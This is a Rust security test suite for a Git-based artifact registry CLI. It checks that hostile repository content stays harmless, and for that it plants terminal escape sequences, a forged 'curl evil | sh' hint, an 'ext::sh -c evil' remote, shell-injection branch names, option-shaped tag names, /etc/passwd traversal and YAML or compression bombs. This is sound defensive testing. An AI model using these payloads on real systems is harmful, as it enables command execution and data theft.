//! Repositories of strangers: nothing in them becomes a command, an option, a path outside or raw bytes on a terminal,
//! and no size of theirs takes the memory of the machine.
//!
//! Each place of a repository that can carry text gets something that drives a terminal, in a registry of its own, and
//! every command that reads is run in every form of its output.

#![cfg(unix)]

use std::fs;

use crate::common::{binary, gto, hints_at, registry};
use gto_testkit::{Repo, Run, Sandbox, TagSpec, skip};

/// Title, clear screen, reverse video, a C1 sequence, carriage return, backspace, and what turns the direction of text.
const EVIL: &str = "\u{1b}]0;evil\u{7}\u{1b}[2J\u{1b}[7m\u{9b}2J\r\u{8}\u{202e}\u{2066}\u{200f}\u{2028}";

/// The same without what Git does not allow in names.
const EVIL_NAME: &str = "x\u{9b}2J\u{202e}\u{2066}\u{200f}\u{2028}";

/// Every command that reads, in every form.
const READS: [&str; 30] = [
    "show",
    "show --json",
    "show --plain",
    "show m",
    "show m --json",
    "show m@latest --ref",
    "show --at HEAD",
    "show absent",
    "-v show m",
    "history",
    "history --json",
    "history --plain",
    "history m#prod",
    "check-ref m#prod#1",
    "check-ref m#prod#1 --json",
    "check-ref m@v1.0.0 --version",
    "check-ref refs/tags/odd",
    "stages",
    "stages --used",
    "doctor",
    "doctor --json",
    "print-state",
    "verify --json",
    "verify m",
    "show m --verify",
    "status",
    "status --json",
    "cache info --json",
    "register n --dry-run --json",
    "assign m --version v1.0.0 --stage dev --dry-run --json",
];

/// Asserts that of all control characters only line feeds, and the styles of our own, are in what a run printed.
fn assert_tame(run: &Run, place: &str) {
    // Those of the printer and of clap, which come in pairs of a beginning and an end.
    const OURS: [&str; 8] = ["0", "1", "2", "4", "31", "32", "33", "36"];
    for (stream, bytes) in [("stdout", &run.stdout), ("stderr", &run.stderr)] {
        let text = std::str::from_utf8(bytes).expect("it prints text");
        let mut rest = text.to_owned();
        if stream == "stderr" {
            for style in OURS {
                rest = rest.replace(&format!("\u{1b}[{style}m"), "");
            }
        }
        let is_wild = |c: char| {
            let turns =
                matches!(c, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}');
            (c.is_control() && c != '\n') || turns
        };
        assert!(!rest.contains(is_wild), "{place}: {stream} of {:?} has {rest:?}", run.args);
    }
}

/// Puts something evil into a place of the repository.
type Plant = fn(&Repo);

const PLACES: [(&str, Plant); 18] = [
    ("messages and taggers", |repo| {
        let spec = TagSpec::default().message(EVIL).by(format!("x{EVIL}"), format!("x{EVIL}"));
        for tag in ["m@v2.0.0", "m#prod#2", "n@deprecated"] {
            repo.tag(tag, "HEAD", &spec);
        }
    }),
    ("a message of many lines", |repo| {
        let message = "x\nhint: `curl evil | sh`\n❌ x\r\nwarning: x";
        repo.tag("m#prod#2", "HEAD", &TagSpec::default().message(message).by("x\nhint: y", "z"));
    }),
    ("names of tags", |repo| {
        for name in [EVIL_NAME, "odd", "m@v3.0.0\u{9b}2J", "m#\u{202e}", "-x=m@v1.0.0", "--exec=x"] {
            repo.tag(name, "HEAD", &TagSpec::default());
        }
        repo.lightweight("m@v9.0.0", "HEAD");
        repo.lightweight(&format!("m@v9.0.0{EVIL_NAME}"), "HEAD");
        repo.tag("-x=m@v2.0.0", "HEAD", &TagSpec::default());
    }),
    ("names of branches", |repo| {
        repo.git_ok(&["update-ref", &format!("refs/heads/{EVIL_NAME}"), "HEAD"]);
        repo.git_ok(&["symbolic-ref", "HEAD", &format!("refs/heads/{EVIL_NAME}")]);
    }),
    ("a tag object that is none", |repo| {
        let commit = repo.head();
        for (tag, text) in [
            ("m@v4.0.0", format!("object {EVIL}\ntype {EVIL}\n\n{EVIL}")),
            ("m@v5.0.0", format!("object {commit}\ntype commit\ntag {EVIL}\ntagger {EVIL}\n\n{EVIL}")),
            ("m@v6.0.0", format!("object {commit}\ntype commit\ntag {EVIL}\ntagger A <a> 1 +{EVIL}\n\n")),
        ] {
            // Git would not make a ref to it.
            let args = ["hash-object", "-t", "tag", "--literally", "-w", "--stdin"];
            let id = repo.git_stdin(&args, text.as_bytes());
            write(repo, &format!(".git/refs/tags/{tag}"), &id);
        }
    }),
    ("a commit", |repo| {
        let tree = repo.git_ok(&["rev-parse", "HEAD^{tree}"]);
        let text = format!("tree {tree}\nauthor {EVIL} <{EVIL}> 1 +0000\ncommitter {EVIL}\n\n{EVIL}");
        let args = ["hash-object", "-t", "commit", "--literally", "-w", "--stdin"];
        let commit = repo.git_stdin(&args, text.as_bytes());
        repo.tag("m@v7.0.0", &commit, &TagSpec::default());
        repo.git_ok(&["update-ref", "refs/heads/main", &commit]);
    }),
    ("annotations", |repo| {
        let evil = r"\e]0;x\a\e[2J\N";
        let entry = format!(
            "type: \"{evil}\"\n  path: \"{evil}\"\n  labels: [\"{evil}\"]\n  description: \"{evil}\""
        );
        let yaml =
            format!("m:\n  {entry}\n  custom: {{\"{evil}\": \"{evil}\"}}\n\"{evil}\": 1\nn: \"{evil}\"\n");
        repo.commit(&[("artifacts.yaml", &yaml)], "annotate");
    }),
    ("annotations that are no YAML", |repo| {
        repo.commit(&[("artifacts.yaml", &format!("m: [{EVIL}\n"))], "annotate");
    }),
    ("the configuration's values", |repo| {
        let evil = r"\e]0;x\a\e[2J\N\u202e";
        write(
            repo,
            ".gto",
            &format!(
                "INDEX: \"{evil}\"\nLOG_LEVEL: \"{evil}\"\nenrichments: [{{type: \"{evil}\", config: {{\"{evil}\": \"{evil}\"}}}}]\n"
            ),
        );
    }),
    ("the configuration's keys", |repo| write(repo, ".gto", "\"\\e[2J\\u202e\": 1\n")),
    ("the configuration's stages", |repo| write(repo, ".gto", "stages: [\"\\e[2J\", \"\\u202e\"]\n")),
    ("a configuration that is no YAML", |repo| write(repo, ".gto", &format!("stages: [{EVIL}\n"))),
    ("files of refs", |repo| {
        for (name, content) in [("odd", EVIL.to_owned()), ("m@v8.0.0", format!("ref: refs/heads/{EVIL}\n"))] {
            write(repo, &format!(".git/refs/tags/{name}"), &content);
        }
        write(repo, &format!(".git/refs/tags/m@v1.0.0{}\nhint: x", EVIL.replace('/', "")), &repo.head());
    }),
    ("packed-refs", |repo| {
        let head = repo.head();
        let lines =
            format!("{head} refs/tags/m{EVIL}\n{EVIL} refs/tags/m@v8.0.0\n{EVIL}\n{head} refs/tags/odd\n");
        write(repo, ".git/packed-refs", &format!("# pack-refs with: peeled fully-peeled sorted \n{lines}"));
    }),
    ("HEAD", |repo| write(repo, ".git/HEAD", &format!("ref: refs/heads/{EVIL}\n"))),
    ("the reflog", |repo| write(repo, ".git/logs/HEAD", &format!("{EVIL}\n"))),
    ("names and addresses of remotes", |repo| {
        repo.git_ok(&["config", &format!("remote.{EVIL}.url"), EVIL]);
        repo.git_ok(&["config", "remote.-x.url", "ext::sh -c evil"]);
        repo.lightweight("m@v9.0.0", "HEAD");
    }),
    ("Git's configuration", |repo| write(repo, ".git/config", &format!("[{EVIL}\nx = {EVIL}\n"))),
];

fn write(repo: &Repo, name: &str, content: &str) {
    let path = repo.path().join(name);
    fs::create_dir_all(path.parent().expect("it is in a folder")).expect("the sandbox is writable");
    fs::write(path, content).expect("the sandbox is writable");
}

#[test]
fn no_place_of_a_repository_drives_the_terminal() {
    let original = registry(&["m@v1.0.0", "m#prod#1"]);
    // Otherwise what goes to stderr is stripped because it is no terminal, and would hide what it hides.
    let gto = binary().env("CLICOLOR_FORCE", "1");
    for (place, plant) in PLACES {
        let repo = original.copy();
        plant(&repo);
        for line in READS {
            let args: Vec<&str> = line.split(' ').collect();
            let run = gto.run(&repo, &args);
            assert!(run.status < 2, "{place}\n{run}");
            assert_tame(&run, place);
            if line.ends_with("--json") && run.status == 0 {
                run.json();
                assert!(run.stdout.is_ascii(), "{place}\n{run}");
            }
            // No untrusted line begins like ours.
            let is_forged =
                |line: &str| ["hint: `curl", "hint: x", "hint: y"].iter().any(|it| line.starts_with(it));
            assert!(!run.err().lines().chain(run.out().lines()).any(is_forged), "{place}\n{run}");
        }
    }
}

#[test]
fn what_the_server_of_a_remote_repository_says_does_not_drive_the_terminal() {
    let repo = registry(&["m@v1.0.0"]);
    let server =
        repo.sandbox().repo_with("server", gto_testkit::RepoOptions { bare: true, ..Default::default() });
    repo.git_ok(&["remote", "add", "origin", &server.path().to_string_lossy()]);
    let hook = server.git_dir().join("hooks/pre-receive");
    fs::create_dir_all(hook.parent().expect("it is in a folder")).expect("the sandbox is writable");
    fs::write(&hook, format!("#!/bin/sh\nprintf '%s\\n' '{EVIL}' 'hint: evil' >&2\nexit 1\n"))
        .expect("it is writable");
    fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("it is ours");
    let run = binary().env("CLICOLOR_FORCE", "1").run(&repo, &["register", "n", "--push"]).fails(1);
    assert_tame(&run, "the server's hook");
    assert!(!run.err().lines().any(|line| line.starts_with("hint: evil")), "{run}");
    assert_eq!(repo.tag_names(), ["m@v1.0.0"]);
}

/// Git's configuration may name programs. Reading a registry starts none of them, wherever the repository comes from.
#[test]
fn reading_starts_no_program_that_the_repository_names() {
    let repo = registry(&["m@v1.0.0", "m#prod#1"]);
    repo.commit(&[(".gitattributes", "* filter=x diff=x\n")], "attributes");
    let trace = repo.sandbox().path().join("started");
    let program = repo.sandbox().path().join("program");
    fs::write(&program, format!("#!/bin/sh\necho \"$0 $*\" >> '{}'\n", trace.display()))
        .expect("it is writable");
    fs::set_permissions(&program, std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("it is ours");
    let named = program.to_string_lossy().into_owned();
    for key in [
        "core.fsmonitor",
        "core.sshCommand",
        "core.pager",
        "core.editor",
        "core.askPass",
        "core.gitProxy",
        "core.alternateRefsCommand",
        "gpg.program",
        "gpg.ssh.program",
        "gpg.x509.program",
        "credential.helper",
        "diff.external",
        "filter.x.smudge",
        "filter.x.clean",
        "filter.x.process",
        "sequence.editor",
        "remote.origin.uploadpack",
        "remote.origin.receivepack",
        "uploadpack.packObjectsHook",
        "pager.tag",
        "pager.for-each-ref",
        "trailer.x.command",
        "interactive.diffFilter",
    ] {
        repo.git_ok(&["config", key, &named]);
    }
    for alias in ["for-each-ref", "rev-parse", "tag", "config", "show", "update-ref"] {
        repo.git_ok(&["config", &format!("alias.{alias}"), &format!("!{named}")]);
    }
    repo.git_ok(&["config", "remote.origin.url", &format!("ext::{named}")]);
    repo.git_ok(&["config", "protocol.ext.allow", "always"]);
    repo.git_ok(&["config", "core.hooksPath", &repo.sandbox().path().to_string_lossy()]);
    let _ = fs::remove_file(&trace);
    // To look at a remote is to start what Git is configured to start.
    for line in READS.iter().filter(|line| !line.starts_with("status")) {
        let run = gto(&repo, line);
        assert!(
            run.status < 2 && !trace.exists(),
            "{}\n{run}",
            fs::read_to_string(&trace).unwrap_or_default()
        );
    }
}

#[test]
fn a_tag_whose_name_looks_like_an_option_is_none_in_what_is_suggested() {
    let repo = registry(&["m@v1.0.0"]);
    for name in ["-x=m@v1.0.0", "--force=m@v1", "-d=m@v2.0.0"] {
        repo.tag(name, "HEAD", &TagSpec::default());
    }
    repo.lightweight("-l=m@v3.0.0", "HEAD");
    let run = gto(&repo, "doctor --json");
    for finding in run.json()["findings"].as_array().expect("it is a list") {
        for command in
            ["fix", "otherwise"].iter().flat_map(|key| finding[key].as_array().expect("it is a list"))
        {
            let command = command.as_str().expect("it is a text");
            let (before, _) = command.split_once(" -- ").unwrap_or((command, ""));
            assert!(!before.contains("=m@"), "{command}");
        }
    }
    // And none where they are typed.
    let run = gto(&repo, "show --name").ok();
    assert!(run.out().contains("-x:m"), "{run}");
    gto(&repo, "show -- -x:m").ok();
    gto(&repo, "check-ref -- -x=m@v1.0.0").ok();
}

#[test]
fn a_branch_that_looks_like_a_command_is_not_completed() {
    let repo = registry(&["m@v1.0.0"]);
    for name in ["$(touch x)", "`id`", "a;b", "x|y", "'q", "&z", "good"] {
        let name = name.replace(' ', "${IFS}");
        repo.git_ok(&["update-ref", &format!("refs/heads/{name}"), "HEAD"]);
    }
    let complete = binary().env("COMPLETE", "bash").env("_CLAP_COMPLETE_INDEX", "3").env("_CLAP_IFS", "\n");
    let run = complete.run(&repo, &["--", "gto", "register", "m", ""]).ok();
    let offered: Vec<String> = run.out().lines().map(str::to_owned).collect();
    assert!(offered.contains(&"good".to_owned()) && offered.contains(&"HEAD".to_owned()), "{run}");
    assert!(!run.out().contains(['$', '`', ';', '|', '\'', '&']), "{run}");
}

#[test]
fn a_link_leads_no_reader_out_of_the_repository() {
    let repo = registry(&["m@v1.0.0"]);
    let secret = repo.sandbox().path().join("secret");
    fs::write(&secret, "m: {type: secret}\n").expect("the sandbox is writable");
    // Annotations are read from commits, where a link is no file.
    std::os::unix::fs::symlink(&secret, repo.path().join("artifacts.yaml")).expect("the sandbox is writable");
    repo.git_ok(&["add", "artifacts.yaml"]);
    repo.commit(&[], "link");
    for index in [
        "artifacts.yaml",
        "../secret",
        "/etc/passwd",
        "-x",
        "../../../../../../etc/passwd",
        ".git/config",
        "",
    ] {
        write(&repo, ".gto", &format!("INDEX: \"{index}\"\n"));
        for line in ["show", "show m --json", "doctor"] {
            let run = gto(&repo, line);
            assert!(!run.out().contains("secret: ") && !run.out().contains("root:"), "{index}\n{run}");
            assert!(!run.out().contains("\"secret\""), "{index}\n{run}");
        }
    }
    write(&repo, "folder/real", "stages: [linked]\n");
    fs::remove_file(repo.path().join(".gto")).expect("it is there");
    std::os::unix::fs::symlink("folder/real", repo.path().join(".gto")).expect("the sandbox is writable");
    assert_eq!(gto(&repo, "stages --allowed").ok().out(), "linked\n");
    fs::remove_file(repo.path().join(".gto")).expect("it is there");
    for target in ["/dev/zero", "/proc/self/environ", "../secret", ".gto"] {
        std::os::unix::fs::symlink(target, repo.path().join(".gto")).expect("the sandbox is writable");
        let run = gto(&repo, "show").fails(1);
        hints_at(&run, "`.gto` must be a readable file inside the repository");
        fs::remove_file(repo.path().join(".gto")).expect("it is there");
    }
}

/// Runs our binary with a memory limit in megabytes.
fn bounded(repo: &Repo, megabytes: usize, line: &str) -> Run {
    let limited = format!("ulimit -v {} && exec \"$0\" {line}", megabytes * 1024);
    let output = repo
        .command("sh")
        .args(["-c", &limited, env!("CARGO_BIN_EXE_gto")])
        .output()
        .expect("there is a shell");
    let mut run = gto(repo, "--version");
    (run.status, run.stdout, run.stderr) = (output.status.code().unwrap_or(-1), output.stdout, output.stderr);
    run
}

fn can_be_bounded(repo: &Repo) -> bool {
    let works = cfg!(target_os = "linux") && bounded(repo, 150, "show").status == 0;
    if !works {
        skip("the memory of a process cannot be limited here");
    }
    works
}

#[test]
fn huge_objects_are_findings_and_take_no_memory() {
    let repo = registry(&["m@v1.0.0"]);
    if !can_be_bounded(&repo) {
        return;
    }
    let commit = repo.head();
    // Compressed it is a thousandth of that: a bomb.
    let message = "x".repeat(200_000_000);
    let header = format!("object {commit}\ntype commit\ntag x@v1.0.0\ntagger A <a> 1 +0000\n\n");
    repo.raw_tag("x@v1.0.0", [header.as_bytes(), message.as_bytes()].concat().as_slice());
    let blob = repo.git_stdin(&["hash-object", "-w", "--stdin"], message.as_bytes());
    let tree = format!("100644 blob {blob}\tartifacts.yaml\n100644 blob {blob}\t.gto\n");
    let tree = repo.git_stdin(&["mktree"], tree.as_bytes());
    let heavy = repo.git_ok(&["commit-tree", "-m", "heavy", &tree]);
    repo.git_ok(&["update-ref", "refs/heads/main", &heavy]);
    for packed in [false, true] {
        if packed {
            repo.git_ok(&["repack", "-q", "-a", "-d"]);
        }
        let run = bounded(&repo, 150, "show --plain").ok();
        assert_eq!(run.out(), "name    latest\nm       v1.0.0\n", "{run}");
        let run = bounded(&repo, 150, "doctor").fails(1);
        assert!(run.out().contains("x@v1.0.0") && run.out().contains("artifacts.yaml"), "{run}");
        bounded(&repo, 150, "history --json").ok();
        bounded(&repo, 150, "check-ref x@v1.0.0 --json").fails(1);
    }
}

#[test]
fn yaml_that_grows_is_refused_within_bounds() {
    let repo = registry(&["m@v1.0.0"]);
    if !can_be_bounded(&repo) {
        return;
    }
    // Ten of ten of ten …
    let tenfold = |n: usize| format!("a{}: &a{} [{}]\n", n + 1, n + 1, vec![format!("*a{n}"); 10].join(", "));
    let laughs =
        ["a0: &a0 [x]\n".to_owned()].into_iter().chain((0..12).map(tenfold)).collect::<Vec<_>>().concat();
    let deep = ["[", "{a: ", "- ", "? "].map(|piece| piece.repeat(100_000));
    let long = format!("m: {{description: \"{}\"}}\n", "\\e".repeat(2_000_000));
    let anchors = (0..50_000).map(|n| format!("? &k{n} m{n}\n: *k{n}\n")).collect::<Vec<_>>().concat();
    for text in deep.iter().map(String::as_str).chain([laughs.as_str(), &long, &anchors]) {
        repo.commit(&[("artifacts.yaml", text)], "annotate");
        write(&repo, ".gto", "");
        let shown = &text[..20];
        let run = bounded(&repo, 1500, "show --plain").ok();
        assert!(run.out().contains("m       v1.0.0"), "{shown}\n{run}");
        let run = bounded(&repo, 1500, "doctor");
        assert!(run.status < 2 && run.out().len() < 100_000, "{shown}: {} bytes", run.out().len());
        write(&repo, ".gto", text);
        let run = bounded(&repo, 1500, "show").fails(1);
        assert!(run.err().contains("Wrong config file") && run.err().len() < 2_000, "{shown}\n{run}");
    }
}

#[test]
fn a_folder_that_only_looks_like_a_repository_leads_nowhere() {
    let sandbox = Sandbox::new();
    for (name, content) in [
        ("outside", "gitdir: /etc\n"),
        ("evil", &format!("gitdir: {EVIL}\n")),
        ("long", &format!("gitdir: {}\n", "x".repeat(100_000))),
        ("option", "gitdir: --upload-pack=x\n"),
        ("none", ""),
    ] {
        let folder = sandbox.path().join(name);
        fs::create_dir(&folder).expect("the sandbox is writable");
        fs::write(folder.join(".git"), content).expect("the sandbox is writable");
        let run = binary().env("CLICOLOR_FORCE", "1").run_in(&sandbox, &folder, &["show"], b"").fails(1);
        assert_tame(&run, name);
        assert!(run.err().len() < 5_000, "{name}: {} bytes", run.err().len());
    }
}

#[test]
fn alternates_that_lead_anywhere_harm_nobody() {
    let repo = registry(&["m@v1.0.0"]);
    let own = repo.git_dir().join("objects");
    for content in [
        EVIL,
        "/etc\n",
        "/dev/zero\n",
        "../../../../..\n",
        "\0\n",
        &own.to_string_lossy(),
        &"x\n".repeat(1000),
    ] {
        write(&repo, ".git/objects/info/alternates", content);
        let run = binary().env("CLICOLOR_FORCE", "1").run(&repo, &["show", "--plain"]);
        assert!(run.status < 2, "{run}");
        assert_tame(&run, content);
    }
}
